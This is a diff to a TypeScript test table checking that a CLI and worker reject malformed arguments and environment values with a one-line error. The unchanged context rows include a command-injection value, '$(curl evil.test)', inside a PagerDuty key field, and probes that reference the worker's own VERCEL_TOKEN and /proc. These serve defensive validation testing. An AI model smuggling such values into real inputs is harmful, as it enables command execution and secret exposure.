@@ -56,6 +56,9 @@ const CLI_ROWS: CliRow[] = [
   ['src/worker/index.ts', [], /PAGERDUTY_ROUTING_KEYS\.auth-oncall: must be a 32-character Events API v2 integration key/, { PAGERDUTY_ROUTING_KEYS: '{"auth-oncall":"$(curl evil.test)"}' }],
   ['src/worker/index.ts', [], /KEY_REF_ALLOWED_ENV: VERCEL_TOKEN names one of the worker's own secrets/, { KEY_REF_ALLOWED_ENV: 'VERCEL_TOKEN' }],
   ['src/worker/index.ts', [], /KEY_REF_ALLOWED_DIRS: \/proc: keys cannot be read from/, { KEY_REF_ALLOWED_DIRS: '/proc' }],
+  ['src/worker/index.ts', [], /roster: .*cannot be read/, { ROSTER_FILE: '/nonexistent/roster.yaml' }],
+  ['src/cli/incident.ts', ['cancel', 'incident-1', '--sign', 'agent'], /^error: --sign: name who cancels with --by/],
+  ['src/cli/incident.ts', ['cancel', 'incident-1', '--by', 'alice\u202ebob'], /^error: --by: must be/],
 ];
 
 describe.concurrent('a CLI refuses a malformed argument with one line naming it', () => {
